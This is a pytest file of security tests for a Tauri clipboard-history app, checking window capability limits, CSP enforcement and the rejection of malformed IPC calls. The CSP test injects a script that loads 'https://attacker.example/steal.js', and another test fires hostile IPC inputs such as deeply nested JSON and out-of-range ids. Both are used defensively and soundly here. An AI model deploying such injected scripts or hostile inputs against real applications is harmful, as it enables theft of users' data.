"""A compromised page can do no more than its window's capability allows, and
the CSP keeps injected scripts from running at all."""

import pytest

from desktop import WebDriverError, wait_until


def test_about_cannot_reach_the_history_or_the_settings(webdriver, desktop, clipboard):
    driver = webdriver
    main = wait_until(lambda: driver.handle_titled("Trove"), what="main")
    clipboard.copy("kept safe from About")
    wait_until(lambda: driver.invoke("history_page", {"offset": 0, "limit": 10})["total"] == 1, what="the clip")
    settings_before = driver.invoke("get_settings")

    about = driver.open_from_tray(desktop.watcher.item_of(driver.pid), "About Trove", "About Trove")
    driver.switch(about)
    attempts = [
        ("history_page", {"offset": 0, "limit": 10}),
        ("search_history", {"query": {"text": "safe", "mode": "exact", "offset": 0, "limit": 10}}),
        ("clear_history", {}),
        ("delete_clip", {"id": 0}),
        ("copy_clip", {"id": 0}),
        ("update_settings", {"settings": dict(settings_before, autostart=True)}),
        ("set_capture_paused", {"paused": True}),
        ("plugin:autostart|enable", {}),
    ]
    for command, args in attempts:
        with pytest.raises(WebDriverError, match="not allowed|not found|denied"):
            driver.invoke(command, args)
    assert driver.invoke("app_info")["name"] == "Trove", "what About is granted still works"

    driver.switch(main)
    assert [c["preview"] for c in driver.invoke("history_page", {"offset": 0, "limit": 10})["items"]] == \
        ["kept safe from About"]
    assert driver.invoke("get_settings") == settings_before
    assert driver.invoke("get_capture_state")["paused"] is False


INJECT = """
const done = arguments[arguments.length - 1];
const blocked = [];
document.addEventListener('securitypolicyviolation', (e) => {
  blocked.push(e.effectiveDirective);
  if (blocked.length === 2) done({ ran: window.__injected === true, blocked });
});
const inline = document.createElement('script');
inline.textContent = 'window.__injected = true';
document.body.append(inline);
const remote = document.createElement('script');
remote.src = 'https://attacker.example/steal.js';
document.body.append(remote);
"""


def test_the_csp_blocks_inline_and_remote_scripts(webdriver):
    driver = webdriver
    wait_until(lambda: driver.handle_titled("Trove"), what="main")
    result = driver.execute_async(INJECT)
    assert result["ran"] is False
    assert sorted(result["blocked"]) == ["script-src-elem", "script-src-elem"]



HOSTILE_CALLS = """
const done = arguments[arguments.length - 1];
const invoke = window.__TAURI_INTERNALS__.invoke;
const deep = JSON.parse('['.repeat(10000) + ']'.repeat(10000));
const calls = [
  ['search_history', {query: {text: 'lone \\ud800 surrogate', mode: 'exact', offset: 0, limit: 5}}],
  ['history_page', {offset: deep, limit: 5}],
  ['search_history', {query: {text: 'x'.repeat(20 * 1024 * 1024), mode: 'fuzzy', offset: 0, limit: 5}}],
  ['search_history', {query: {text: 'x', mode: 'exact', offset: -1, limit: 5}}],
  ['delete_clip', {id: 2 ** 64}],
  ['delete_clip', {id: -1}],
  ['set_pinned', {id: Number.MAX_SAFE_INTEGER, pinned: true}],
  ['history_page', {offset: 0, limit: 5, unknown: 'field'}],
];
const settled = calls.map(([command, args]) =>
  invoke(command, args).then(() => ({command, ok: true}), error => ({command, error})));
// A body nested too deep to parse, as the whole argument object, is dropped
// before any command runs: its promise never settles. Give it a moment.
const dropped = invoke('clear_history', deep).then(() => 'ran', () => 'refused');
const moment = new Promise(resolve => setTimeout(() => resolve('no answer'), 3000));
Promise.all([...settled, Promise.race([dropped, moment])]).then(done);
"""


def test_hostile_calls_through_the_real_ipc_are_refused_and_change_nothing(webdriver, clipboard):
    driver = webdriver
    wait_until(lambda: driver.handle_titled("Trove"), what="main")
    clipboard.copy("still here after the attack")
    wait_until(lambda: driver.invoke("history_page", {"offset": 0, "limit": 10})["total"] == 1, what="the clip")
    *results, whole_body = driver.execute_async(HOSTILE_CALLS)
    # Tauri parses the body before any command: it refuses bad JSON with a message of its own.
    parse_errors = [r["error"] for r in results[:2]]
    assert "hex escape" in parse_errors[0] and "recursion limit" in parse_errors[1], parse_errors
    for result in results[2:7]:
        assert result.get("error", {}).get("kind") == "invalid_input", result
    assert results[7] == {"command": "history_page", "ok": True}, "unknown fields are ignored"
    assert whole_body in ("refused", "no answer"), whole_body
    assert [c["preview"] for c in driver.invoke("history_page", {"offset": 0, "limit": 10})["items"]] == \
        ["still here after the attack"]
